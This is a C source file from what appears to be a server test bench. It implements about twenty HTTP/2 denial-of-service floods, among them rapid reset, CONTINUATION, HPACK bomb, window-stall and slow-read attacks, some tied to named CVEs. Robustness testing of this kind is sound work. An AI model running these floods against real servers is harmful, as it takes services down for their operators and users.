/* t/bench/hostile/http2_attack.c -- what the attacks h2-* send: in clear, with prior knowledge.
 *
 * Each writes one piece at a time.  Floods fill the piece.  After PIECES of them the connection is
 * broken and the next one begins. */
#include <stdio.h>
#include <string.h>
#include "t/bench/hostile/hostile.h"

#define PIECES    2000 /* of a flood, on one connection */
#define STREAMS   100  /* what most servers allow at a time */
#define FRAME_MAX 600  /* a request, or a frame of a flood, has at most these bytes */
#define WHOLE     (H2_END_STREAM | H2_END_HEADERS)

static bool
more(const struct peer *p, const struct h2_out *o)
{
	return (p->step < PIECES && h2_room(o) >= FRAME_MAX);
}

static uint32_t
new_stream(struct peer *p)
{
	p->stream += 2;
	return (p->stream - 2);
}

/* ---------------------------------------------------------------- streams that end at once */

/* Rapid reset, CVE-2023-44487. */
static void
reset_streams(struct peer *p, struct h2_out *o)
{
	uint32_t s;

	while (more(p, o)) {
		s = new_stream(p);
		h2_request(o, s, false, p->number % 2 ? opt.big : opt.file, WHOLE);
		h2_reset(o, s, 8);
	}
}

/* The same for files of --cold, some at a time, so that look-ups begin. */
static void
reset_cold(struct peer *p, struct h2_out *o)
{
	char path[256];
	uint32_t s;
	unsigned i;

	for (i = 0; i < 20 && more(p, o); i++) {
		snprintf(path, sizeof(path), "%s%u", opt.cold, dice(opt.ncold));
		s = new_stream(p);
		h2_request(o, s, false, path, WHOLE);
		if (s > 40)
			h2_reset(o, s - 40, 8); /* one of the piece before */
	}
}

/* The server resets the stream because the client breaks a rule of it, CVE-2025-8671. */
static void
reset_by_server(struct peer *p, struct h2_out *o)
{
	uint32_t s;

	while (more(p, o)) {
		s = new_stream(p);
		h2_request(o, s, false, opt.file, WHOLE);
		h2_window(o, s, p->number % 2 ? 0 : 0x7fffffff);
	}
}

/* More streams than the server allows, and no byte of them is taken. */
static void
too_many(struct peer *p, struct h2_out *o)
{
	if (p->step == 0)
		h2_setting(o, H2_WINDOW, 0);
	while (p->step < 20 && more(p, o))
		h2_request(o, new_stream(p), false, opt.big, WHOLE);
}

/* ---------------------------------------------------------------- heads */

static void
begin_head(struct peer *p, struct h2_out *o)
{
	if (p->step == 0) {
		h2_request(o, p->stream, false, opt.file, H2_END_STREAM);
		p->open_head = true;
	}
}

/* A head that never ends, CVE-2024-27316. */
static void
continuation(struct peer *p, struct h2_out *o)
{
	char buf[FRAME_MAX - 20];
	struct h2_out f;

	begin_head(p, o);
	while (more(p, o)) {
		f = (struct h2_out){ .at = buf, .end = buf + sizeof(buf) };
		while (h2_room(&f) >= 40)
			h2_field(&f, 0, "x-more", "0123456789012345678901234");
		h2_frame(o, H2_CONTINUATION, 0, p->stream, (size_t)(f.at - buf));
		h2_bytes(o, buf, (size_t)(f.at - buf));
	}
}

static void
empty_continuation(struct peer *p, struct h2_out *o)
{
	begin_head(p, o);
	while (more(p, o))
		h2_frame(o, H2_CONTINUATION, 0, p->stream, 0);
}

/* Heads without a field. */
static void
empty_headers(struct peer *p, struct h2_out *o)
{
	while (more(p, o))
		h2_frame(o, H2_HEADERS, WHOLE, new_stream(p), 0);
}

/* A head frame that comes byte by byte: a request with a field of 7000 bytes. */
static void
slow_head(struct peer *p, struct h2_out *o)
{
	static const unsigned char drip[] = { 0x00, 1, 'x', 0x7f, 0xd9, 0x35 }; /* 7000 bytes */

	p->open_head = true;
	if (p->step == 0) {
		h2_frame(o, H2_HEADERS, WHOLE, p->stream, 8000);
		h2_fields(o, false, opt.file);
		h2_bytes(o, drip, sizeof(drip));
		o->requests++;
	} else
		h2_bytes(o, "x", 1);
}

/* One entry of 4 kB in the table of the server, then thousands of references to it in each head. */
static void
bomb(struct peer *p, struct h2_out *o)
{
	static const unsigned char entry[] = { 0x40, 1, 'x', 0x7f, 0xa1, 0x1e }; /* 4000 bytes */
	static char fill[4000];
	char buf[512];
	struct h2_out f = { .at = buf, .end = buf + sizeof(buf) };
	size_t n, refs;

	if (p->step >= PIECES)
		return;
	h2_fields(&f, false, opt.file);
	n = (size_t)(f.at - buf);
	memset(fill, 'b', sizeof(fill));
	refs = p->step == 0 ? 100 : 15000;
	h2_frame(o, H2_HEADERS, WHOLE, new_stream(p),
	    n + refs + (p->step == 0 ? sizeof(entry) + sizeof(fill) : 0));
	h2_bytes(o, buf, n);
	if (p->step == 0) {
		h2_bytes(o, entry, sizeof(entry));
		h2_bytes(o, fill, sizeof(fill));
	}
	memset(o->at, 0xbe, refs); /* the newest entry */
	o->at += refs;
	o->requests++;
}

/* ---------------------------------------------------------------- frames of the connection */

static void
ping(struct peer *p, struct h2_out *o)
{
	while (more(p, o)) {
		h2_frame(o, H2_PING, 0, 0, 8);
		h2_bytes(o, "hostile!", 8);
	}
}

static void
settings(struct peer *p, struct h2_out *o)
{
	while (more(p, o))
		h2_setting(o, H2_WINDOW, 65535 + o->frames);
}

static void
priority(struct peer *p, struct h2_out *o)
{
	while (more(p, o)) {
		h2_frame(o, H2_PRIORITY, 0, 1 + 2 * dice(100000), 5);
		h2_u32(o, 2 * dice(100000)); /* on another stream */
		h2_bytes(o, "w", 1);
	}
}

static void
priority_update(struct peer *p, struct h2_out *o)
{
	while (more(p, o)) {
		h2_frame(o, H2_PRIORITY_UPDATE, 0, 0, 9);
		h2_u32(o, 1 + 2 * dice(100000));
		h2_bytes(o, o->frames % 2 ? "u=1,i" : "u=7,i", 5);
	}
}

/* ---------------------------------------------------------------- bodies */

static void
begin_body(struct peer *p, struct h2_out *o)
{
	if (p->step == 0)
		h2_request(o, p->stream, true, opt.app, H2_END_HEADERS);
}

static void
empty_data(struct peer *p, struct h2_out *o)
{
	begin_body(p, o);
	while (more(p, o))
		h2_frame(o, H2_DATA, 0, p->stream, 0);
}

static void
slow_body(struct peer *p, struct h2_out *o)
{
	begin_body(p, o);
	h2_frame(o, H2_DATA, 0, p->stream, 1);
	h2_bytes(o, "b", 1);
}

/* ---------------------------------------------------------------- windows and slow readers */

static void
ask_many(struct peer *p, struct h2_out *o, uint32_t window)
{
	unsigned i;

	h2_setting(o, H2_WINDOW, window);
	h2_window(o, 0, 0x7fff0000 - 65535);
	for (i = 0; i < STREAMS && more(p, o); i++)
		h2_request(o, new_stream(p), false, opt.big, WHOLE);
}

static void
window_0(struct peer *p, struct h2_out *o)
{
	if (p->step == 0)
		ask_many(p, o, 0);
}

/* A byte more for each stream, again and again. */
static void
window_1(struct peer *p, struct h2_out *o)
{
	uint32_t s;

	if (p->step == 0)
		ask_many(p, o, 0);
	for (s = 1; p->step > 0 && s < p->stream && more(p, o); s += 2)
		h2_window(o, s, 1);
}

static void
slow_streams(struct peer *p, struct h2_out *o)
{
	if (p->step == 0)
		ask_many(p, o, 0x7fffffff);
}

/* ---------------------------------------------------------------- nothing, and nonsense */

static void
say_nothing(struct peer *p, struct h2_out *o)
{
}

/* Frames of all types with bytes by chance, some of them after a request. */
static void
noise(struct peer *p, struct h2_out *o)
{
	unsigned i, len;
	char c;

	while (p->step < 4 && more(p, o) && dice(20) != 0) {
		if (dice(3) == 0)
			h2_request(o, new_stream(p), dice(2), opt.file,
			    dice(2) ? WHOLE : dice(256));
		len = dice(40);
		h2_frame(o, dice(18), dice(4) ? dice(2) * 4 : dice(256), dice(12), len);
		for (i = 0; i < len; i++) {
			c = (char)(dice(3) ? dice(4) : dice(256));
			h2_bytes(o, &c, 1);
		}
	}
}

#define FLOOD .reset_ms = 1, .next = h2_next

const struct attack h2_attacks[] = {
	{ "h2-reset", "opens streams and resets them", 10, 200, FLOOD, .frames = reset_streams },
	{ "h2-reset-cold", "opens streams for files of --cold and resets them a little later", 10,
	    200, FLOOD, .pause_ms = 2, .frames = reset_cold },
	{ "h2-made-reset", "makes the server reset the streams", 10, 200, FLOOD,
	    .frames = reset_by_server },
	{ "h2-many", "opens more streams than the server allows", 10, 200, FLOOD,
	    .frames = too_many },
	{ "h2-continuation", "sends a head that never ends", 10, 200, FLOOD,
	    .frames = continuation },
	{ "h2-empty-cont", "sends empty CONTINUATION frames", 10, 200, FLOOD,
	    .frames = empty_continuation },
	{ "h2-empty-head", "sends empty HEADERS frames", 10, 200, FLOOD, .frames = empty_headers },
	{ "h2-empty-data", "sends empty DATA frames to --app", 10, 200, FLOOD,
	    .frames = empty_data },
	{ "h2-bomb", "sends heads that refer thousands of times to one long field", 10, 200, FLOOD,
	    .frames = bomb },
	{ "h2-ping", "sends PING frames; every second connection reads no answer", 10, 200, FLOOD,
	    .half_deaf = true, .frames = ping },
	{ "h2-settings", "sends SETTINGS frames; every second connection reads no answer", 10, 200,
	    FLOOD, .half_deaf = true, .frames = settings },
	{ "h2-priority", "sends PRIORITY frames", 10, 200, FLOOD, .frames = priority },
	{ "h2-prio-update", "sends PRIORITY_UPDATE frames", 10, 200, FLOOD,
	    .frames = priority_update },
	{ "h2-window-0", "asks for --big on 100 streams with windows of 0", 20, 200,
	    .next = h2_next, .frames = window_0 },
	{ "h2-window-1", "asks for --big on 100 streams and opens their windows byte by byte", 10,
	    200, FLOOD, .frames = window_1 },
	{ "h2-slow-read", "asks for --big on 100 streams and reads 512 bytes at a time", 20, 200,
	    .sip = 512, .next = h2_next, .frames = slow_streams },
	{ "h2-slow-head", "sends a HEADERS frame byte by byte", 100, 1000, .pause_ms = 100,
	    .next = h2_next, .frames = slow_head },
	{ "h2-slow-body", "sends DATA frames of one byte to --app", 50, 1000, .pause_ms = 20,
	    .next = h2_next, .frames = slow_body },
	{ "h2-silent", "sends the preface and says nothing more", 1000, 5000, .next = h2_next,
	    .frames = say_nothing },
	{ "h2-noise", "sends frames by chance", 50, 1000, .reset_ms = 50, .next = h2_next,
	    .frames = noise },
	{ NULL },
};
